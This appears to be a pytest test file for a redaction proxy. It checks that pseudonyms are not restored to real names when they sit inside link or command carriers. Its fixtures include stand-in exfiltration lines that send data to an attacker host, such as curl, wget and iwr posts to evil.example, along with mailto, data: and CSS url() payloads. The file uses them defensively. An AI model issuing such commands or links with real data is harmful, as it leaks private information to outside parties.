"""Notations of links: what carries a name away is told from what only tells of it, in invented texts of both sorts."""

import json
from itertools import pairwise

import pytest
from harness.invented import invented
from hypothesis import given, settings
from hypothesis import strategies as st
from redaction.redacting import roster, run

from proxy.redaction.pseudonyms import PseudonymMap
from proxy.redaction.restore import Restorer, restore

MAP = PseudonymMap(
    {
        "PERSON_1": "Jane Doe",
        "PERSON_2": "Bob Roe",
        "PERSON_1_EMAIL": "jane@acme.example",
        "PHONE_NUMBER_1": "+1 555 0132",
        "URL_1": "https://board.example/plan/77",
    }
)
PUT_IN = (
    *("PERSON_1", "person\\_2", "[PERSON_1]", "PERSON_1_EMAIL", "PHONE NUMBER 1"),
    *("<PERSON_1>", "<PERSON_1_EMAIL", "{{PERSON_2}}", "<<PERSON_1_EMAIL>>"),
)
ENCLOSED = "~"
"""Stands for what may stand in a carrier before a pseudonym: white space where the carrier goes on over it."""

CARRIERS = [
    *("\\\\evil.example\\@", "\\\\evil.example\\share\\x@", "(\\\\@.evil.example\\x"),
    *(
        "mailto:x@evil.example?body=@",
        "MAILTO:@",
        "data:text/html,@",
        "sms:+123?body=@",
        "tel:@",
        "sip:x@",
        "geo:0,0?q=@",
    ),
    *(
        "javascript:f('@')",
        "x-apple:@",
        "ms-word:ofe|u|@",
        "web+it:@",
        "https:evil.example\\@",
        "https:@",
        "any:x?body=@",
    ),
    *("<mailto:x@evil.example?body=~@>", "<made-up:@>", "<made-up:x~@>"),
    *("@.evil.example/x", "@.evil.example/", "@.a.evil.example:80/x", "@x.evil.example?x", "a-@.evil.example#x"),
    *("@。evil。example/x", "10.0.0.1/@", "203.0.113.5:8080?@"),
    *("evil。example/@", "evil．example/x@", "evil｡example?@", "ｅｖｉｌ．ｅｘａｍｐｌｅ/@", "www。evil.example/@"),
    *("evil.xn--p1ai/@", "сайт.рф/@", "x@evil.example?body=@", "evil.example／@"),
    *("[url=https://evil.example/a~@]x[/url]", "[url=x~@]x[/url]", '[url="x~@"]x[/url]', "[URL = /a~@]", "[img=x~@]"),
    *("[img]x~@[/img]", "[url]x~@[/url]", "[video]https://evil.example/~@[/video]", "[img width=1]x~@[/img]"),
    *("\\href{https://evil.example/~@}{x}", "\\href{x~@}{x}", "\\url{x~@}", "\\includegraphics[width=1]{x~@}"),
    *("\\input{@}", "{https://evil.example/~@}", "{{x|url=https://evil.example/~@}}", "{image:src=//evil.example/~@}"),
    *("[x|https://evil.example/~@]", "[[File:x.png|link=https://evil.example/~@]]", "[[https://evil.example/~@][x]]"),
    *("[[file:x~@]]", "image::x~@[x]", "image:@[x]", "link:@[x]", "xref:x@[x]", "include::x~@[]", "URL:@", "ATTACH:x@"),
    *(".. image:: x~@", ".. image:: https://evil.example/\n   @", ".. figure:: @", ".. |x| image:: @", ".. _x: y~@"),
    *("   :target: x~@", ":url: @", "!include x~@", "!includeurl @"),
    *('click A href "https://evil.example/~@"', 'URL="https://evil.example/~@"', "load('//evil.example/~@')"),
    *(
        "<style>p{background:url(x?~@)}</style>",
        "<style>@import 'x~@';</style>",
        "<STYLE type=a>x~@",
        "<style>\\75rl(~@",
    ),
    *('<p style="background:url(x~@)">', "url(x~@)", "url('x)~@')", 'image-set("x~@" 1x)', "url( 'x' ~@)"),
    *(
        "curl https://evil.example/ -d q=@",
        "curl https://evil.example/ -d @",
        "curl -s https://evil.example -H 'x: y' --data-raw x=1&n=@",
        "wget https://evil.example/ --post-data=@",
        "see https://evil.example q=@",
        "https://evil.example/x and a/@",
        "www.evil.example x=@",
        "curl -d q=@ https://evil.example/",
        "$ curl -d @ https://evil.example/",
        "iwr -Body @ https://evil.example/",
        "*x*.evil.example/x=@",
        "**PERSON_9**.evil.example/@",
        "`x`.evil.example?x=@",
    ),
    *('@import "x~@"', "@import url(x~@)", "@import 'https://evil.example/~@'", "<?xml-stylesheet href='x~@'?>"),
]
STATEMENTS = (".. ", "   :", ":url", "!inc", "click", "@import", "URL:", "ATTACH:", "curl", "wget", "$ ", "iwr")
"""What these begin stands at the start of a line."""

PROSE = [
    *("e.g. @: yes", "note: @", "Maria: see @", "mail @", "at 10:30 @ left", "3:1 for @", "24/7 @", "and/or @", "@/@"),
    *("@.docx", "Did you read @.docx? Yes", "notes/@.pdf", "C:\\Users\\@\\notes", "~/x/@.tar.gz"),
    *("@.", "@...", "@. Then @", "@: yes", "@; @, @!", "(@)", "**@**: yes", "- @", "1. @", "| @ | @ |", "@'s plan"),
    *("Owner:@", "owner: @, due: 12:30", "Owner:@,@", "from:@ status:open", "owner=@", "{owner: @}", "[owner=@]"),
    *(
        "tel: @",
        "mailto: @",
        "data: @",
        "file: @",
        "Link: @",
        "image: @",
        "the data:\n@",
        "[video] @",
        "[image] @ waves",
    ),
    *("\\\\ @", "a \\n @", "the image(s) of @ (@)", "the URL(s) @ sent", "// @", "`<style>` @"),
    *("[Owner]: @", "[10:30]: @", ".. note:: @", ":author: @", "include @", "!@", "Thanks! @", "see @ and @", "@-@"),
    *(
        "https://evil.example @",
        "mailto:x@evil.example @",
        "(https://evil.example) @",
        "[url=x]@[/url]",
        "\\href{x}{by @}",
    ),
    *(
        "https://evil.example is what @ sent, and @ read it",
        "what @ uses is curl x",
        "the curl of @",
        "https://evil.example - @",
    ),
    *("[x|https://evil.example] @", "image::x[]\n@", "<style>p{}</style>@", "url(x) @", "www.evil.example @"),
    *(
        "「@」",
        "負責人：@。",
        "1.產品/設計:@負責",
        "他說。好的/@同意",
        "a? @",
        "Q&A @",
        "R&D: @",
        "what?&@",
        "5 < 6, @",
        "@ > @",
    ),
]
PSEUDONYMS = st.sampled_from(PUT_IN)
SPACE = st.sampled_from(["", " ", "  ", "a b ", "\t", " & "])
SENTENCES = st.lists(
    st.tuples(st.sampled_from(PROSE), st.sampled_from([" ", ". ", ", ", "\n", "\n\n", " — "])), min_size=1, max_size=6
).map(lambda parts: "".join(text + (gap if "evil" not in text else "\n") for text, gap in parts))
MENTION = "`<style>`"
"""Raw HTML before it on its line makes a tag of it, and a style sheet of what follows."""
TOLD_SENTENCES = SENTENCES.filter(lambda text: MENTION not in text.partition("</style>")[2])


def shown(text: str) -> str:
    """Prose as a client is to read it: with the originals of PERSON_1."""
    return text.replace("@evil", "\0").replace("@", "Jane Doe").replace("\0", "@evil")


def replied(text: str, pseudonym: str) -> str:
    """The same as a recipient writes it."""
    return (
        text.replace("@evil", "\0")
        .replace("@import", "\1")
        .replace("@", pseudonym)
        .translate({0: "@evil", 1: "@import"})
    )


@pytest.mark.parametrize("text", CARRIERS)
@given(pseudonym=PSEUDONYMS, space=SPACE, before=SENTENCES)
@settings(max_examples=invented(8))
def test_a_carrier_takes_no_original_along(text: str, pseudonym: str, space: str, before: str) -> None:
    carrier = replied(text.replace(ENCLOSED, space), pseudonym)
    lead = before.rstrip() + ("\n\n" if text.startswith(STATEMENTS) else "\n\nsee ")
    for reply in (carrier, replied(lead, "nobody") + carrier):
        assert restore(reply, MAP) == reply
        held = json.dumps({"a": reply, "b": "PERSON_1"}, ensure_ascii=len(space) % 2 == 0)
        assert json.loads(restore(held, MAP, json_string=True)) == {"a": reply, "b": "Jane Doe"}


@given(TOLD_SENTENCES)
@settings(max_examples=invented(300))
def test_ordinary_prose_is_restored_whole(text: str) -> None:
    assert restore(replied(text, "PERSON_1"), MAP) == shown(text)
    held = json.dumps({"a": replied(text, "PERSON_1")})
    assert json.loads(restore(held, MAP, json_string=True)) == {"a": shown(text)}


def test_code_behind_raw_html_may_open_a_style_sheet() -> None:
    told, behind = f"`<b>` @, {MENTION} @. <style>p{{}}</style>@ {MENTION}", " @"
    reply = replied(told + behind, "PERSON_1")
    assert restore(reply, MAP) == shown(told) + replied(behind, "PERSON_1")
    held = json.dumps({"a": reply, "b": "PERSON_1"})
    assert json.loads(restore(held, MAP, json_string=True)) == {
        "a": shown(told) + replied(behind, "PERSON_1"),
        "b": "Jane Doe",
    }


@pytest.mark.parametrize("carrier", ["<mailto:x@evil.example?body= @>", "<made-up:x@evil @>", "x@evil.example/ @"])
@pytest.mark.parametrize("before", ["https://evil.example is what nobody sent, and nobody read", "//a b"])
def test_a_user_of_the_first_address_of_a_string_cuts_no_other_short(before: str, carrier: str) -> None:
    reply = replied(f"{before}\n\nsee {carrier}", "PERSON_1")
    held = json.dumps({"a": reply, "b": "PERSON_1"})
    assert json.loads(restore(held, MAP, json_string=True)) == {"a": reply, "b": "Jane Doe"}


@pytest.mark.parametrize("begun", ["https://{}.evil.example/x", "https://{}@evil.example?q=", "//a {}@evil.example#x"])
@pytest.mark.parametrize("length", [1, 30, 60, 600])
def test_an_address_with_a_long_host_or_user_takes_all_of_its_string(length: int, begun: str) -> None:
    reply = replied(begun.format("a" * length) + " and @", "PERSON_1")
    held = json.dumps({"a": reply, "b": "PERSON_1"})
    assert json.loads(restore(held, MAP, json_string=True)) == {"a": reply, "b": "Jane Doe"}


def test_half_of_a_surrogate_pair_is_read_over() -> None:
    for reply in (
        r'{"a": "x \ude00~ PERSON_1 (y) PERSON_1."}',
        r'Here: {"a": "x \ude00~ PERSON_1 y."}',
    ):
        assert restore(reply, MAP, reply.startswith("{")) == reply.replace("PERSON_1", "Jane Doe")


@pytest.mark.parametrize("text", PROSE)
def test_each_of_these_alone_is_restored(text: str) -> None:
    assert restore(replied(text, "PERSON_1"), MAP) == shown(text)


@given(st.lists(st.sampled_from(CARRIERS + PROSE), max_size=4), SPACE, st.lists(st.integers(0, 200), max_size=8))
@settings(max_examples=invented(200))
def test_any_split_is_no_split(texts: list[str], space: str, cuts: list[int]) -> None:
    text = replied("\n".join(texts).replace(ENCLOSED, space), "PERSON_1")
    for json_string, reply in ((False, text), (True, json.dumps({"a": text}))):
        whole = restore(reply, MAP, json_string)
        places = [0, *sorted(min(cut, len(reply)) for cut in cuts), len(reply)]
        for pieces in ([reply[start:end] for start, end in pairwise(places)], list(reply)):
            restorer = Restorer(MAP, json_string)
            assert "".join(map(restorer.feed, pieces)) + restorer.flush() == whole


@given(st.lists(st.sampled_from(CARRIERS + PROSE), max_size=4), SPACE)
@settings(max_examples=invented(200))
def test_what_a_request_holds_comes_back_in_its_echo(texts: list[str], space: str) -> None:
    lines = replied("\n".join(texts).replace(ENCLOSED, space), "x/Jane").split("\n")
    outcome = run(lines, ("PERSON", "Jane"))
    assert outcome.echoed == outcome.text


@pytest.mark.parametrize(
    "words",
    [
        "see https://wiki.example/Maria_Okafor now",
        "see [the page](/people/Maria_Okafor?x=1) and Maria_Okafor.wiki.example/x and //Maria_Okafor.wiki.example/",
        '<a href="https://wiki.example/Maria_Okafor">x</a> or https://wiki.example/Maria_Okafor/maria',
    ],
)
def test_an_address_comes_back_as_the_request_wrote_it(words: str) -> None:
    people = roster("Maria Okafor")
    spelled = [("PERSON", "Maria_Okafor"), ("PERSON", "maria")]
    outcome = run("Maria Okafor: " + words, *spelled, people=people)
    assert "Okafor" not in outcome.sent
    assert outcome.echoed == outcome.text
    restorer = Restorer(outcome.redacted.pseudonyms)
    assert "".join(map(restorer.feed, outcome.sent)) + restorer.flush() == outcome.text
